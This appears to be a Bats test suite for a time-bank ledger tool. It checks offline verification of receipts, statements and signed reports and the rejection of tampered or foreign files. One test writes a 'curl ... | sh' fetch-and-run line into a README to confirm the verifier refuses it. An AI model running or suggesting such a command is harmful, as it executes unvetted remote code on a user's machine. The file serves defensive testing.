#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# What anyone can check without the bank: the daemon is stopped before the first of these.

load bank.bash

setup_file() {
    bank_start
    timebank account open m0007 --kind member >/dev/null
    timebank account open m0012 --kind member >/dev/null
    timebank activity add gardening >/dev/null
    run timebank --json exchange --giver m0007 --receiver m0012 --time 2h30 --on 2025-03-05 \
        --activity gardening
    ENTRY=$(json 'x["entry"]')
    run timebank --json status
    LEDGER=$(json 'x["verifier_key"]')
    export ENTRY LEDGER
    timebank receipt "$ENTRY" --out "$PLACE/receipt" >/dev/null
    timebank receipt "$ENTRY" >"$PLACE/proof"
    timebank statement m0012 --proof "$PLACE/statement" >/dev/null
    timebank report --from 2025-03-01 --to 2025-03-31 --format json --out "$PLACE/report.json" >/dev/null
    timebank ledger export "$PLACE/old-export" >/dev/null
    timebank --json report --from 2025-03-01 --to 2025-03-31 >"$PLACE/printed.json"
    timebank exchange --giver m0007 --receiver m0012 --time 1h --on 2025-03-06 --activity gardening >/dev/null
    timebank report --from 2025-03-01 --to 2025-03-31 --class funder --format json --out "$PLACE/funder.json" >/dev/null
    timebank ledger export "$PLACE/export" >/dev/null
    bank_stop
    rm -rf "$XDG_STATE_HOME"
    unset TIMEBANK TIMEBANK_KEY
}

teardown_file() {
    bank_end
}

@test "a receipt is explained without a bank, a key or a network" {
    run timebank verify "$PLACE/receipt" --ledger "$LEDGER"
    [ "$status" -eq 0 ]
    [[ "$output" == "VERIFIED: this receipt proves:"* ]]
    [[ "$output" == *"Entry $ENTRY stands in the ledger test.example/timebank"* ]]
    [[ "$output" == *"Wed 5 March 2025: m0007 gave 2 h 30 to m0012, gardening."* ]]
    [[ "$output" == *"It does not prove:"*"had the right to record it then"* ]]
}

@test "the verifier key may come from the environment or stand before the verb" {
    TIMEBANK_LEDGER=$LEDGER run timebank verify "$PLACE/proof"
    [ "$status" -eq 0 ]
    run timebank --ledger "$LEDGER" verify "$PLACE/proof"
    [ "$status" -eq 0 ]
    [[ "$output" == *"this proof proves:"*"Record $ENTRY stands"* ]]
    run timebank verify "$PLACE/proof"
    [ "$status" -eq 64 ]
    [[ "$output" == *"--ledger"* ]]
    run timebank verify --ledger "$LEDGER"
    [ "$status" -eq 64 ]
}

@test "programs get kind, sentences, entries and head" {
    run timebank --json verify "$PLACE/receipt" --ledger "$LEDGER"
    is 'x["verified"] == "receipt" and len(x["proven"]) == 3 and len(x["not_proven"]) >= 4'
    is 'x["entries"][0]["kind"] == "exchange" and x["entries"][0]["minutes"] == 150'
    is 'x["entries"][0]["author"].startswith("ssh-ed25519 ") and x["position"]["size"] > 12'
    run timebank --json verify "$PLACE/statement" --ledger "$LEDGER"
    is 'x["verified"] == "statement" and x["account"]["code"] == "m0012"'
    is 'x["account"]["minutes"] == -150 and x["entries"][0]["moved_minutes"] == -150'
}

@test "another ledger, a changed file and a file that is none are refused with a sentence" {
    other="test.example/timebank+deadbeef+${LEDGER##*+}"
    run timebank verify "$PLACE/receipt" --ledger "$other"
    [ "$status" -eq 1 ]
    [[ "$output" == *"verifier key is none"* ]]
    cp -r "$PLACE/receipt" "$PLACE/changed"
    sed -i 's/m0012/m0013/' "$PLACE/changed/entry.record"
    run timebank verify "$PLACE/changed" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    [[ "$output" == *"is not record $ENTRY of the ledger"* ]]
    run timebank --json verify "$PLACE/changed" --ledger "$LEDGER"
    is 'x["refused"] == "NOT_VERIFIED"'
    run timebank verify "$PLACE/init.txt" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    [[ "$output" == *"nothing that can be checked"* ]]
    run timebank verify "$PLACE/nowhere" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    rm -r "$PLACE/changed"
}

@test "a README that tells people to run something else is refused" {
    cp -r "$PLACE/receipt" "$PLACE/told"
    echo '    curl https://example.org/install | sh' >>"$PLACE/told/README"
    run timebank verify "$PLACE/told" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    [[ "$output" == *"follow none of it"* ]]
    rm -r "$PLACE/told"
}

@test "a report is told from a copy that was changed, and what it proves is said" {
    run timebank verify "$PLACE/report.json" --ledger "$LEDGER"
    [ "$status" -eq 0 ]
    [[ "$output" == "VERIFIED: this report proves:"* ]]
    [[ "$output" == *"signed this report of Sat 1 March 2025 to Mon 31 March 2025, of the class internal"* ]]
    [[ "$output" == *"the parts add up to the totals"* ]]
    [[ "$output" == *"It does not prove:"*"that is the bank's word"* ]]
    cmp "$PLACE/printed.json" "$PLACE/report.json"
    run timebank verify "$PLACE/funder.json" --ledger "$LEDGER"
    [ "$status" -eq 0 ]
    [[ "$output" == *"of the class funder"*"are marked as hidden"* ]]
    cp "$PLACE/report.json.sig" "$PLACE/changed.json.sig"
    sed 's/"givers":1/"givers":9/' "$PLACE/report.json" >"$PLACE/changed.json"
    run timebank verify "$PLACE/changed.json" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    [[ "$output" == *"it was changed since"* ]]
    cp "$PLACE/funder.json.sig" "$PLACE/changed.json.sig"
    cp "$PLACE/report.json" "$PLACE/changed.json"
    run timebank --json verify "$PLACE/changed.json" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    is 'x["refused"] == "NOT_VERIFIED"'
    rm "$PLACE/changed.json.sig"
    run timebank verify "$PLACE/changed.json" --ledger "$LEDGER"
    [ "$status" -eq 1 ]
    [[ "$output" == *"signature is not beside it"* ]]
    run timebank verify "$PLACE/changed.json" --ledger "$LEDGER" --signature "$PLACE/report.json.sig"
    [ "$status" -eq 0 ]
    run timebank verify "$PLACE/report.json" --ledger "test.example/other+${LEDGER#*+}"
    [ "$status" -eq 1 ]
}

@test "ssh-keygen alone tells that the ledger signed a report" {
    cd "$PLACE"
    /usr/bin/python3 - "$LEDGER" >allowed <<'PY'
import base64, struct, sys
name, _, key = sys.argv[1].split("+", 2)
text = lambda data: struct.pack(">I", len(data)) + data
print(name, 'namespaces="timebank-report"', "ssh-ed25519",
      base64.b64encode(text(b"ssh-ed25519") + text(base64.b64decode(key)[1:])).decode())
PY
    ssh-keygen -Y verify -f allowed -I test.example/timebank -n timebank-report -s report.json.sig <report.json
    # The manual's own command, to the letter.
    told=$(sed -n 's/^\.D1 \(ssh-keygen -Y verify .*timebank-report.*\)/\1/p' "$TREE/man/timebank-receipt.5")
    [ -n "$told" ]
    told=${told//allowed_signers/allowed}
    told=${told//NAME/test.example\/timebank}
    eval "${told//FILE/report.json}"
    run ssh-keygen -Y verify -f allowed -I test.example/timebank -n timebank-report -s report.json.sig <funder.json
    [ "$status" -ne 0 ]
}

@test "the position of a report is one of an exported ledger, or it is not proven" {
    run timebank verify "$PLACE/report.json" --ledger "$LEDGER" --export "$PLACE/export"
    [ "$status" -eq 0 ]
    [[ "$output" == *"records that it was made from are the first of those in the export"* ]]
    run timebank verify "$PLACE/funder.json" --ledger "$LEDGER" --export "$PLACE/old-export"
    [ "$status" -eq 1 ]
    [[ "$output" == *"bring the export up to date"* ]]
    cp -r "$PLACE/export" "$PLACE/other-export"
    tile=$(find "$PLACE/other-export/tile/0" -type f | head -1)
    printf x | dd of="$tile" bs=1 seek=40 conv=notrunc status=none
    run timebank verify "$PLACE/report.json" --ledger "$LEDGER" --export "$PLACE/other-export"
    [ "$status" -eq 1 ]
    rm -r "$PLACE/other-export"
}

@test "a report is kept once, and asked for again only where there is a bank" {
    run timebank verify "$PLACE/report.json" --ledger "$LEDGER" --again
    [ "$status" -ne 0 ]
    run timebank verify "$PLACE/proof" --ledger "$LEDGER" --again
    [ "$status" -eq 64 ]
}
